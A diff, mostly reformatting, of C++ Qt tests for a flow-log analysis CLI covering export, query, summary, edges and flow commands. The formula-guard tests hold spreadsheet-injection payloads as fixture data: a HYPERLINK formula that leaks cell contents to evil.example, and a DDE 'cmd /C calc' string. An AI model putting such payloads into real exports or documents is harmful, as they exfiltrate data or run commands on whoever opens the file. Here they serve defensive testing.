@@ -23,7 +23,10 @@ struct Run {
     QString err;
 };
 
-QString fixture(const QString& name) { return QStringLiteral(FLOWLOG_TEST_DATA "/cli/") + name; }
+QString fixture(const QString& name)
+{
+    return QStringLiteral(FLOWLOG_TEST_DATA "/cli/") + name;
+}
 
 Run runCli(const QStringList& args, const QByteArray& input = {})
 {
@@ -56,8 +59,12 @@ QByteArray readAll(const QString& path)
 
 QStringList tcpExportArgs()
 {
-    return {QStringLiteral("export"), QStringLiteral("--filter"), QStringLiteral("proto == tcp"), QStringLiteral("--sort"),
-            QStringLiteral("bytes:desc"), QStringLiteral("--columns"),
+    return {QStringLiteral("export"),
+            QStringLiteral("--filter"),
+            QStringLiteral("proto == tcp"),
+            QStringLiteral("--sort"),
+            QStringLiteral("bytes:desc"),
+            QStringLiteral("--columns"),
             QStringLiteral("tgw_attachment_id,srcaddr,dstaddr,bytes,pkt-src-aws-service")};
 }
 
@@ -102,7 +109,8 @@ private Q_SLOTS:
 
     void summaryWithRejections()
     {
-        const Run r = runCli({QStringLiteral("summary"), fixture(QStringLiteral("tgw.log")), fixture(QStringLiteral("tgw_bad_lines.log"))});
+        const Run r =
+            runCli({QStringLiteral("summary"), fixture(QStringLiteral("tgw.log")), fixture(QStringLiteral("tgw_bad_lines.log"))});
         QVERIFY2(r.exitCode == 0, qPrintable(r.err));
         const QJsonObject o = QJsonDocument::fromJson(r.out).object();
         QCOMPARE(o.value(QStringLiteral("records")).toInteger(), 6);
@@ -135,7 +143,9 @@ private Q_SLOTS:
         QTest::addColumn<bool>("guard");
         QTest::newRow("defaults") << QStringList{} << "" << QStringList{} << QStringList{} << true;
         QTest::newRow("filter sort columns")
-            << QStringList{"--filter", "addr == 10.0.0.0/8 or drops", "--sort", "dstport:desc", "--sort", "start",
+            << QStringList{"--filter",  "addr == 10.0.0.0/8 or drops",
+                           "--sort",    "dstport:desc",
+                           "--sort",    "start",
                            "--columns", "start,srcaddr,dstport,bytes,packets_lost_blackhole"}
             << "addr == 10.0.0.0/8 or drops" << QStringList{"start", "srcaddr", "dstport", "bytes", "packets_lost_blackhole"}
             << QStringList{"dstport:desc", "start"} << true;
@@ -239,9 +249,10 @@ private Q_SLOTS:
 
     void queryTimeout()
     {
-        const Run r = runCli({QStringLiteral("query"), QStringLiteral("--timeout"), QStringLiteral("0.3"), QStringLiteral("--sql"),
-                              QStringLiteral("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c"),
-                              fixture(QStringLiteral("tgw.log"))});
+        const Run r =
+            runCli({QStringLiteral("query"), QStringLiteral("--timeout"), QStringLiteral("0.3"), QStringLiteral("--sql"),
+                    QStringLiteral("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c"),
+                    fixture(QStringLiteral("tgw.log"))});
         QCOMPARE(r.exitCode, 1);
         QVERIFY2(r.err.contains(QLatin1String("--timeout")), qPrintable(r.err));
     }
@@ -260,8 +271,8 @@ private Q_SLOTS:
 
     void edgesWithNames()
     {
-        const Run r = runCli({QStringLiteral("edges"), QStringLiteral("--names"), fixture(QStringLiteral("names-attachments.json")),
-                              fixture(QStringLiteral("tgw.log"))});
+        const Run r = runCli({QStringLiteral("edges"), QStringLiteral("--names"),
+                              fixture(QStringLiteral("names-attachments.json")), fixture(QStringLiteral("tgw.log"))});
         QVERIFY2(r.exitCode == 0, qPrintable(r.err));
         QVERIFY2(r.out.startsWith(QByteArray(kEdgesHeader) + ",src_name,dst_name\r\n"), r.out.constData());
         // a name with a comma is quoted; unknown ids get an empty name
@@ -273,13 +284,16 @@ private Q_SLOTS:
     void namesJsonAmongPaths()
     {
         // describe-* JSON given as a PATH is read as names, and SQL can join the names table
-        const Run r = runCli({QStringLiteral("query"), QStringLiteral("--sql"),
-                              QStringLiteral("SELECT n.name, count(*) FROM flows f JOIN names n ON n.id = f.tgw_attachment_id GROUP BY 1 ORDER BY 1"),
-                              fixture(QStringLiteral("names-attachments.json")), fixture(QStringLiteral("tgw.log"))});
+        const Run r =
+            runCli({QStringLiteral("query"), QStringLiteral("--sql"),
+                    QStringLiteral(
+                        "SELECT n.name, count(*) FROM flows f JOIN names n ON n.id = f.tgw_attachment_id GROUP BY 1 ORDER BY 1"),
+                    fixture(QStringLiteral("names-attachments.json")), fixture(QStringLiteral("tgw.log"))});
         QVERIFY2(r.exitCode == 0, qPrintable(r.err));
         QVERIFY2(!r.err.contains(QStringLiteral("names-attachments.json")), qPrintable(r.err));
         QVERIFY2(r.out.contains("VPC A,2\r\n\"on-prem, VPN\",1\r\n"), r.out.constData());
-        const Run s = runCli({QStringLiteral("summary"), fixture(QStringLiteral("names-attachments.json")), fixture(QStringLiteral("tgw.log"))});
+        const Run s = runCli(
+            {QStringLiteral("summary"), fixture(QStringLiteral("names-attachments.json")), fixture(QStringLiteral("tgw.log"))});
         QVERIFY2(s.exitCode == 0, qPrintable(s.err));
         QVERIFY2(s.out.contains("\"names\": 2"), s.out.constData());
     }
@@ -294,21 +308,24 @@ private Q_SLOTS:
 
     void series()
     {
-        const Run r = runCli({QStringLiteral("series"), QStringLiteral("--bin"), QStringLiteral("60"),
-                              QStringLiteral("--filter"), QStringLiteral("log_status == OK"), fixture(QStringLiteral("tgw.log"))});
+        const Run r = runCli({QStringLiteral("series"), QStringLiteral("--bin"), QStringLiteral("60"), QStringLiteral("--filter"),
+                              QStringLiteral("log_status == OK"), fixture(QStringLiteral("tgw.log"))});
         QVERIFY2(r.exitCode == 0, qPrintable(r.err));
-        QCOMPARE(r.out, QByteArray(kSeriesHeader) + "\r\n"
-                                                    "1795946400,1,10,1000,0,0,0,0\r\n"
-                                                    "1795946460,1,5,300,0,5,0,0\r\n"
-                                                    "1795946520,1,7,500,0,0,3,0\r\n");
+        QCOMPARE(r.out, QByteArray(kSeriesHeader)
+                            + "\r\n"
+                              "1795946400,1,10,1000,0,0,0,0\r\n"
+                              "1795946460,1,5,300,0,5,0,0\r\n"
+                              "1795946520,1,7,500,0,0,3,0\r\n");
     }
 
     void formatOptionWithEachSubcommand_data()
     {
         QTest::addColumn<QStringList>("args");
         QTest::addColumn<QByteArray>("expected");
-        QTest::newRow("export") << QStringList{"export", "--columns", "srcaddr,bytes"} << QByteArray("srcaddr,bytes\r\n10.0.0.1,100\r\n10.0.0.3,200\r\n");
-        QTest::newRow("query") << QStringList{"query", "--sql", "SELECT sum(bytes) AS b FROM flows"} << QByteArray("b\r\n300\r\n");
+        QTest::newRow("export") << QStringList{"export", "--columns", "srcaddr,bytes"}
+                                << QByteArray("srcaddr,bytes\r\n10.0.0.1,100\r\n10.0.0.3,200\r\n");
+        QTest::newRow("query") << QStringList{"query", "--sql", "SELECT sum(bytes) AS b FROM flows"}
+                               << QByteArray("b\r\n300\r\n");
         QTest::newRow("summary") << QStringList{"summary"} << QByteArray("\"records\": 2");
         QTest::newRow("series") << QStringList{"series"} << QByteArray(kSeriesHeader);
         QTest::newRow("edges") << QStringList{"edges", "--by", "addr"} << QByteArray(kEdgesHeader);
@@ -319,7 +336,8 @@ private Q_SLOTS:
         QFETCH(QStringList, args);
         QFETCH(QByteArray, expected);
         const QString file = fixture(QStringLiteral("custom_noheader.log"));
-        const Run r = runCli(QStringList(args) << QStringLiteral("--format") << QStringLiteral("${version} ${srcaddr} ${dstaddr} ${bytes}") << file);
+        const Run r = runCli(QStringList(args) << QStringLiteral("--format")
+                                               << QStringLiteral("${version} ${srcaddr} ${dstaddr} ${bytes}") << file);
         QVERIFY2(r.exitCode == 0, qPrintable(r.err));
         QVERIFY2(r.out.contains(expected), r.out.constData());
     }
@@ -334,11 +352,11 @@ private Q_SLOTS:
         QTest::newRow("no path") << QStringList{"summary"} << "needs at least one PATH";
         QTest::newRow("unknown option") << QStringList{"export", "--colums", "a", tgw} << "unknown option '--colums'";
         QTest::newRow("missing value") << QStringList{"export", tgw, "--filter"} << "option --filter needs a value";
-        QTest::newRow("option for another command") << QStringList{"export", "--sql", "SELECT 1", tgw} << "does not apply to 'export'";
+        QTest::newRow("option for another command")
+            << QStringList{"export", "--sql", "SELECT 1", tgw} << "does not apply to 'export'";
         QTest::newRow("filter error with position") << QStringList{"export", "--filter", "srcaddr == and port == 1", tgw}
                                                     << "filter error at column 12: expected a value after '==' at 12";
-        QTest::newRow("filter typo") << QStringList{"edges", "--filter", "scraddr == 10.0.0.1", tgw}
-                                     << "did you mean 'srcaddr'?";
+        QTest::newRow("filter typo") << QStringList{"edges", "--filter", "scraddr == 10.0.0.1", tgw} << "did you mean 'srcaddr'?";
         QTest::newRow("series filter error") << QStringList{"series", "--filter", "(port == 1", tgw} << "expected ')'";
         QTest::newRow("bad sort") << QStringList{"export", "--sort", "bytes:sideways", tgw} << "sort direction";
         QTest::newRow("unknown column") << QStringList{"export", "--columns", "srcaddr,bites", tgw} << "did you mean 'bytes'?";
@@ -365,9 +383,10 @@ private Q_SLOTS:
         QTest::addColumn<QStringList>("args");
         QTest::addColumn<QString>("message");
         QTest::newRow("binary garbage") << QStringList{"summary", fixture(QStringLiteral("garbage.bin"))} << "garbage.bin";
-        QTest::newRow("missing file") << QStringList{"export", fixture(QStringLiteral("does-not-exist.log"))} << "does-not-exist.log";
-        QTest::newRow("headerless custom without --format") << QStringList{"summary", fixture(QStringLiteral("custom_noheader.log"))}
-                                                            << "custom_noheader.log";
+        QTest::newRow("missing file") << QStringList{"export", fixture(QStringLiteral("does-not-exist.log"))}
+                                      << "does-not-exist.log";
+        QTest::newRow("headerless custom without --format")
+            << QStringList{"summary", fixture(QStringLiteral("custom_noheader.log"))} << "custom_noheader.log";
     }
 
     void nothingLoaded()
@@ -383,7 +402,8 @@ private Q_SLOTS:
     void partialLoadStillWorks()
     {
         // One unreadable file among good ones: exit 0, the failure is reported on stderr.
-        const Run r = runCli({QStringLiteral("summary"), fixture(QStringLiteral("tgw.log")), fixture(QStringLiteral("garbage.bin"))});
+        const Run r =
+            runCli({QStringLiteral("summary"), fixture(QStringLiteral("tgw.log")), fixture(QStringLiteral("garbage.bin"))});
         QVERIFY2(r.exitCode == 0, qPrintable(r.err));
         QVERIFY2(r.err.contains(QLatin1String("garbage.bin")), qPrintable(r.err));
         const QJsonObject o = QJsonDocument::fromJson(r.out).object();
@@ -409,9 +429,9 @@ private Q_SLOTS:
         QFETCH(QStringList, args);
         const Run r = runCli(args);
         QCOMPARE(r.exitCode, 0);
-        for (const char* word : {"summary", "export", "query", "edges", "series", "--filter", "--format", "--sort",
-                                 "--columns", "--no-formula-guard", "--timeout", "--by", "--bin", "Filter language",
-                                 "contains", "CIDR", "Exit codes"})
+        for (const char* word :
+             {"summary", "export", "query", "edges", "series", "--filter", "--format", "--sort", "--columns",
+              "--no-formula-guard", "--timeout", "--by", "--bin", "Filter language", "contains", "CIDR", "Exit codes"})
             QVERIFY2(r.out.contains(word), word);
     }
 
@@ -424,10 +444,11 @@ private Q_SLOTS:
 
     void exportWithNames()
     {
-        const Run r = runCli({QStringLiteral("export"), QStringLiteral("--names"), fixture(QStringLiteral("names-attachments.json")),
-                              QStringLiteral("--with-names"), QStringLiteral("--columns"),
-                              QStringLiteral("tgw-attachment-id,tgw_pair_attachment_id,srcaddr,bytes"), QStringLiteral("--filter"),
-                              QStringLiteral("attachment == \"VPC A\""), fixture(QStringLiteral("tgw.log"))});
+        const Run r =
+            runCli({QStringLiteral("export"), QStringLiteral("--names"), fixture(QStringLiteral("names-attachments.json")),
+                    QStringLiteral("--with-names"), QStringLiteral("--columns"),
+                    QStringLiteral("tgw-attachment-id,tgw_pair_attachment_id,srcaddr,bytes"), QStringLiteral("--filter"),
+                    QStringLiteral("attachment == \"VPC A\""), fixture(QStringLiteral("tgw.log"))});
         QVERIFY2(r.exitCode == 0, qPrintable(r.err));
         QVERIFY2(r.err.isEmpty(), qPrintable(r.err));
         QCOMPARE(r.out, QByteArray("tgw_attachment_id,tgw_attachment_id_name,tgw_pair_attachment_id,tgw_pair_attachment_id_name,"
@@ -436,8 +457,9 @@ private Q_SLOTS:
                                    "tgw-attach-bbb,\"on-prem, VPN\",tgw-attach-aaa,VPC A,10.0.1.5,1000\r\n"
                                    "tgw-attach-aaa,VPC A,,,10.0.1.6,300\r\n"));
         // Without --with-names the ids are exported as before.
-        const Run plain = runCli({QStringLiteral("export"), QStringLiteral("--names"), fixture(QStringLiteral("names-attachments.json")),
-                                  QStringLiteral("--columns"), QStringLiteral("tgw-attachment-id,bytes"), fixture(QStringLiteral("tgw.log"))});
+        const Run plain =
+            runCli({QStringLiteral("export"), QStringLiteral("--names"), fixture(QStringLiteral("names-attachments.json")),
+                    QStringLiteral("--columns"), QStringLiteral("tgw-attachment-id,bytes"), fixture(QStringLiteral("tgw.log"))});
         QVERIFY2(plain.exitCode == 0, qPrintable(plain.err));
         QVERIFY(plain.out.startsWith("tgw_attachment_id,bytes\r\ntgw-attach-aaa,1000\r\n"));
     }
@@ -448,10 +470,12 @@ private Q_SLOTS:
         QTest::addColumn<QString>("filter");
         QTest::addColumn<QString>("sort");
         QTest::addColumn<bool>("guard");
-        QTest::newRow("all columns") << QStringList{} << "" << "" << true;
+        QTest::newRow("all columns") << QStringList{} << ""
+                                     << "" << true;
         QTest::newRow("by name, sorted, no guard")
             << QStringList{"--filter", "attachment != \"on-prem, VPN\"", "--sort", "bytes:desc", "--no-formula-guard"}
-            << "attachment != \"on-prem, VPN\"" << "bytes:desc" << false;
+            << "attachment != \"on-prem, VPN\""
+            << "bytes:desc" << false;
     }
 
     void exportWithNamesSameBytesAsLibrary()
@@ -463,8 +487,9 @@ private Q_SLOTS:
         QFETCH(bool, guard);
         const QString names = fixture(QStringLiteral("names-attachments.json"));
         const QString log = fixture(QStringLiteral("tgw.log"));
-        const Run r = runCli(QStringList{QStringLiteral("export"), QStringLiteral("--with-names"), QStringLiteral("--names"), names}
-                             + args + QStringList{log});
+        const Run r =
+            runCli(QStringList{QStringLiteral("export"), QStringLiteral("--with-names"), QStringLiteral("--names"), names} + args
+                   + QStringList{log});
         QVERIFY2(r.exitCode == 0, qPrintable(r.err));
 
         auto store = core::Store::create();
@@ -490,7 +515,8 @@ private Q_SLOTS:
         QTest::addColumn<bool>("guard");
         QTest::addColumn<QByteArray>("cell");
         QTest::newRow("guarded") << true << QByteArray("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
-        QTest::newRow("--no-formula-guard") << false << QByteArray("\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
+        QTest::newRow("--no-formula-guard") << false
+                                            << QByteArray("\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
     }
 
     void exportWithNamesGuardsFormulas()
@@ -508,26 +534,29 @@ private Q_SLOTS:
                                {QStringLiteral("Tags"), QJsonArray{QJsonObject{{QStringLiteral("Key"), QStringLiteral("Name")},
                                                                                {QStringLiteral("Value"), QLatin1String(name)}}}}};
         };
-        const QJsonObject root{{QStringLiteral("Vpcs"), QJsonArray{vpc("vpc-0aaa", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
-                                                                  vpc("vpc-0bbb", "+cmd|' /C calc'!A0")}}};
+        const QJsonObject root{
+            {QStringLiteral("Vpcs"), QJsonArray{vpc("vpc-0aaa", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
+                                                vpc("vpc-0bbb", "+cmd|' /C calc'!A0")}}};
         f.write(QJsonDocument(root).toJson());
         f.close();
-        QStringList args{QStringLiteral("export"), QStringLiteral("--with-names"), QStringLiteral("--names"), names,
-                         QStringLiteral("--columns"), QStringLiteral("tgw_src_vpc_id,tgw_dst_vpc_id"), QStringLiteral("--filter"),
-                         QStringLiteral("bytes == 1000 and flow-direction == ingress")};
+        QStringList args{QStringLiteral("export"),    QStringLiteral("--with-names"),
+                         QStringLiteral("--names"),   names,
+                         QStringLiteral("--columns"), QStringLiteral("tgw_src_vpc_id,tgw_dst_vpc_id"),
+                         QStringLiteral("--filter"),  QStringLiteral("bytes == 1000 and flow-direction == ingress")};
         if (!guard) args << QStringLiteral("--no-formula-guard");
         const Run r = runCli(args << fixture(QStringLiteral("tgw.log")));
         QVERIFY2(r.exitCode == 0, qPrintable(r.err));
         const QByteArray second = guard ? QByteArray("'+cmd|' /C calc'!A0") : QByteArray("+cmd|' /C calc'!A0");
-        QCOMPARE(r.out, "tgw_src_vpc_id,tgw_src_vpc_id_name,tgw_dst_vpc_id,tgw_dst_vpc_id_name\r\nvpc-0aaa," + cell
-                            + ",vpc-0bbb," + second + "\r\n");
+        QCOMPARE(r.out, "tgw_src_vpc_id,tgw_src_vpc_id_name,tgw_dst_vpc_id,tgw_dst_vpc_id_name\r\nvpc-0aaa," + cell + ",vpc-0bbb,"
+                            + second + "\r\n");
     }
 
     void exportWithNamesButNoNames_data()
     {
         QTest::addColumn<QStringList>("namesArgs");
         QTest::newRow("no --names") << QStringList{};
-        QTest::newRow("names JSON without Name tags") << QStringList{"--names", QStringLiteral(FLOWLOG_TEST_DATA "/names/describe-flow-logs.json")};
+        QTest::newRow("names JSON without Name tags")
+            << QStringList{"--names", QStringLiteral(FLOWLOG_TEST_DATA "/names/describe-flow-logs.json")};
     }
 
     void exportWithNamesButNoNames()
@@ -535,7 +564,8 @@ private Q_SLOTS:
         // Still exported (stable header, empty name columns), with a clear warning on stderr.
         QFETCH(QStringList, namesArgs);
         const Run r = runCli(QStringList{QStringLiteral("export"), QStringLiteral("--with-names"), QStringLiteral("--columns"),
-                                         QStringLiteral("tgw_attachment_id,bytes"), QStringLiteral("--filter"), QStringLiteral("bytes == 300")}
+                                         QStringLiteral("tgw_attachment_id,bytes"), QStringLiteral("--filter"),
+                                         QStringLiteral("bytes == 300")}
                              + namesArgs + QStringList{fixture(QStringLiteral("tgw.log"))});
         QCOMPARE(r.exitCode, 0);
         QCOMPARE(r.out, QByteArray("tgw_attachment_id,tgw_attachment_id_name,bytes\r\ntgw-attach-aaa,,300\r\n"));
@@ -567,14 +597,20 @@ private Q_SLOTS:
         QTest::addColumn<QString>("filter");
         QTest::addColumn<bool>("withNames");
         QTest::addColumn<QByteArray>("expected");
-        QTest::newRow("export by name") << "export" << "attachment == \"on-prem, VPN\"" << true
+        QTest::newRow("export by name") << "export"
+                                        << "attachment == \"on-prem, VPN\"" << true
                                         << QByteArray("tgw_attachment_id\r\ntgw-attach-aaa\r\ntgw-attach-bbb\r\n");
-        QTest::newRow("export by name, no names: nothing") << "export" << "attachment == \"on-prem, VPN\"" << false
-                                                           << QByteArray("tgw_attachment_id\r\n");
-        QTest::newRow("export in names") << "export" << "tgw-attachment-id in {\"VPC A\", tgw-attach-eee}" << true
-                                         << QByteArray("tgw_attachment_id\r\ntgw-attach-aaa\r\ntgw-attach-aaa\r\ntgw-attach-eee\r\n");
-        QTest::newRow("edges by name") << "edges" << "attachment == \"VPC A\"" << true
-                                       << QByteArray("tgw-attach-aaa,tgw-attach-bbb,1,10,1000,0,0,0,0,VPC A,\"on-prem, VPN\"\r\n");
+        QTest::newRow("export by name, no names: nothing")
+            << "export"
+            << "attachment == \"on-prem, VPN\"" << false << QByteArray("tgw_attachment_id\r\n");
+        QTest::newRow("export in names") << "export"
+                                         << "tgw-attachment-id in {\"VPC A\", tgw-attach-eee}" << true
+                                         << QByteArray(
+                                                "tgw_attachment_id\r\ntgw-attach-aaa\r\ntgw-attach-aaa\r\ntgw-attach-eee\r\n");
+        QTest::newRow("edges by name") << "edges"
+                                       << "attachment == \"VPC A\"" << true
+                                       << QByteArray(
+                                              "tgw-attach-aaa,tgw-attach-bbb,1,10,1000,0,0,0,0,VPC A,\"on-prem, VPN\"\r\n");
     }
 
     void filterByName()
@@ -695,8 +731,9 @@ private Q_SLOTS:
         QCOMPARE(o.value(QStringLiteral("rejected")).toInteger(), 0);
         QVERIFY2(r.err.contains(QStringLiteral("%1 records were outside the time window").arg(5 - records)), qPrintable(r.err));
         // Only records inside the window reach the other subcommands too.
-        const Run q = runCli(QStringList{QStringLiteral("query"), QStringLiteral("--sql"), QStringLiteral("SELECT count(*) FROM flows")}
-                             + window + QStringList{fixture(QStringLiteral("tgw.log"))});
+        const Run q =
+            runCli(QStringList{QStringLiteral("query"), QStringLiteral("--sql"), QStringLiteral("SELECT count(*) FROM flows")}
+                   + window + QStringList{fixture(QStringLiteral("tgw.log"))});
         QCOMPARE(q.exitCode, 0);
         QCOMPARE(q.out, QByteArray("count(*)\r\n") + QByteArray::number(records) + "\r\n");
     }
@@ -726,8 +763,10 @@ private Q_SLOTS:
         const QString log = fixture(QStringLiteral("tgw.log"));
         QTest::newRow("bad --from") << QStringList{"summary", "--from", "yesterday", log} << "--from needs a time";
         QTest::newRow("bad --to") << QStringList{"summary", "--to=2026-13-01", log} << "--to needs a time";
-        QTest::newRow("--from after --to") << QStringList{"summary", "--from", "200", "--to", "100", log} << "--from must be before --to";
-        QTest::newRow("--from equals --to") << QStringList{"summary", "--from", "100", "--to", "100", log} << "--from must be before --to";
+        QTest::newRow("--from after --to") << QStringList{"summary", "--from", "200", "--to", "100", log}
+                                           << "--from must be before --to";
+        QTest::newRow("--from equals --to") << QStringList{"summary", "--from", "100", "--to", "100", log}
+                                            << "--from must be before --to";
         QTest::newRow("--sample 0") << QStringList{"summary", "--sample", "0", log} << "--sample needs a whole number";
         QTest::newRow("--sample text") << QStringList{"summary", "--sample", "ten", log} << "--sample needs a whole number";
         QTest::newRow("--sample negative") << QStringList{"summary", "--sample=-2", log} << "--sample needs a whole number";
@@ -802,8 +841,8 @@ private Q_SLOTS:
     // flow ID: the path of one record, as text and JSON; bad IDs are usage errors.
     void flowCommand()
     {
-        auto tgw = [](const char* att, const char* pair, const char* dir, const char* src, const char* dst, int sport,
-                      int dport, int lostNoRoute) {
+        auto tgw = [](const char* att, const char* pair, const char* dir, const char* src, const char* dst, int sport, int dport,
+                      int lostNoRoute) {
             return QStringLiteral("6 TransitGateway 111122223333 tgw-0123 %1 - - vpc-a vpc-b - - - - - - %2 %3 %4 %5 %6 6 "
                                   "10 4000 1700000000 1700000060 OK IPv4 %7 0 0 0 19 us-east-1 %8 - -\n")
                 .arg(QLatin1String(att), QLatin1String(pair), QLatin1String(src), QLatin1String(dst))
@@ -818,10 +857,10 @@ private Q_SLOTS:
         const QString log = dir.filePath(QStringLiteral("flow.log"));
         QFile f(log);
         QVERIFY(f.open(QIODevice::WriteOnly));
-        f.write(tgw("tgw-attach-aaa", "tgw-attach-bbb", "ingress", "10.0.0.5", "10.1.0.9", 51515, 443, 0) +
-                tgw("tgw-attach-bbb", "tgw-attach-aaa", "egress", "10.0.0.5", "10.1.0.9", 51515, 443, 0) +
-                tgw("tgw-attach-bbb", "tgw-attach-aaa", "ingress", "10.1.0.9", "10.0.0.5", 443, 51515, 0) +
-                tgw("tgw-attach-aaa", "-", "ingress", "10.0.0.5", "10.99.0.1", 40000, 5432, 10));
+        f.write(tgw("tgw-attach-aaa", "tgw-attach-bbb", "ingress", "10.0.0.5", "10.1.0.9", 51515, 443, 0)
+                + tgw("tgw-attach-bbb", "tgw-attach-aaa", "egress", "10.0.0.5", "10.1.0.9", 51515, 443, 0)
+                + tgw("tgw-attach-bbb", "tgw-attach-aaa", "ingress", "10.1.0.9", "10.0.0.5", 443, 51515, 0)
+                + tgw("tgw-attach-aaa", "-", "ingress", "10.0.0.5", "10.99.0.1", 40000, 5432, 10));
         f.close();
         const QString names = fixture(QStringLiteral("names-attachments.json"));
 
@@ -848,10 +887,17 @@ private Q_SLOTS:
         QCOMPARE(root.value(QStringLiteral("record")).toInteger(), 1);
         const QJsonObject flow = root.value(QStringLiteral("flow")).toObject();
         QCOMPARE(flow.value(QStringLiteral("kind")).toString(), QStringLiteral("tgw"));
-        QCOMPARE(flow.value(QStringLiteral("entry")).toObject().value(QStringLiteral("id")).toString(), QStringLiteral("tgw-attach-aaa"));
+        QCOMPARE(flow.value(QStringLiteral("entry")).toObject().value(QStringLiteral("id")).toString(),
+                 QStringLiteral("tgw-attach-aaa"));
         QCOMPARE(flow.value(QStringLiteral("egress")).toObject().value(QStringLiteral("id")).toInteger(), 2);
         QCOMPARE(flow.value(QStringLiteral("ends_at_tgw")).toBool(), false);
-        QCOMPARE(root.value(QStringLiteral("reply")).toObject().value(QStringLiteral("ingress")).toObject().value(QStringLiteral("id")).toInteger(), 3);
+        QCOMPARE(root.value(QStringLiteral("reply"))
+                     .toObject()
+                     .value(QStringLiteral("ingress"))
+                     .toObject()
+                     .value(QStringLiteral("id"))
+                     .toInteger(),
+                 3);
         const Run dropJson = runCli({QStringLiteral("flow"), QStringLiteral("4"), QStringLiteral("--json"), log});
         const QJsonObject d = QJsonDocument::fromJson(dropJson.out).object();
         QVERIFY(d.value(QStringLiteral("reply")).isNull());
@@ -882,7 +928,8 @@ private Q_SLOTS:
     {
         QTemporaryDir dir;
         QVERIFY(dir.isValid());
-        const QString log = dir.filePath(QStringLiteral("123456789012_vpcflowlogs_us-east-1_fl-0123456789abcdef0_20251201T0000Z_ab12cd34.log"));
+        const QString log =
+            dir.filePath(QStringLiteral("123456789012_vpcflowlogs_us-east-1_fl-0123456789abcdef0_20251201T0000Z_ab12cd34.log"));
         const QString flowLogs = dir.filePath(QStringLiteral("flowlogs.json"));
         QFile l(log), j(flowLogs);
         QVERIFY(l.open(QIODevice::WriteOnly) && j.open(QIODevice::WriteOnly));
@@ -901,12 +948,14 @@ private Q_SLOTS:
         const QJsonObject file = root.value(QStringLiteral("files")).toArray().at(0).toObject();
         QCOMPARE(file.value(QStringLiteral("format")).toString(),
                  QStringLiteral("headerless custom format, 7 fields (LogFormat of fl-0123456789abcdef0)"));
-        QVERIFY(file.value(QStringLiteral("format_source")).toString().startsWith(
-            QLatin1String("format from describe-flow-logs fl-0123456789abcdef0 (LogFormat ${action}")));
+        QVERIFY(file.value(QStringLiteral("format_source"))
+                    .toString()
+                    .startsWith(QLatin1String("format from describe-flow-logs fl-0123456789abcdef0 (LogFormat ${action}")));
         // An explicit --format wins over the flow log's.
-        const Run explicitFormat = runCli({QStringLiteral("query"), QStringLiteral("--names"), flowLogs, QStringLiteral("--format"),
-                                           QStringLiteral("action bytes srcaddr interface-id dstaddr start version"),
-                                           QStringLiteral("--sql"), QStringLiteral("SELECT srcaddr FROM flows"), log});
+        const Run explicitFormat =
+            runCli({QStringLiteral("query"), QStringLiteral("--names"), flowLogs, QStringLiteral("--format"),
+                    QStringLiteral("action bytes srcaddr interface-id dstaddr start version"), QStringLiteral("--sql"),
+                    QStringLiteral("SELECT srcaddr FROM flows"), log});
         QVERIFY2(explicitFormat.exitCode == 0, qPrintable(explicitFormat.err));
         QCOMPARE(explicitFormat.out, QByteArray("srcaddr\r\n10.1.0.9\r\n"));
     }
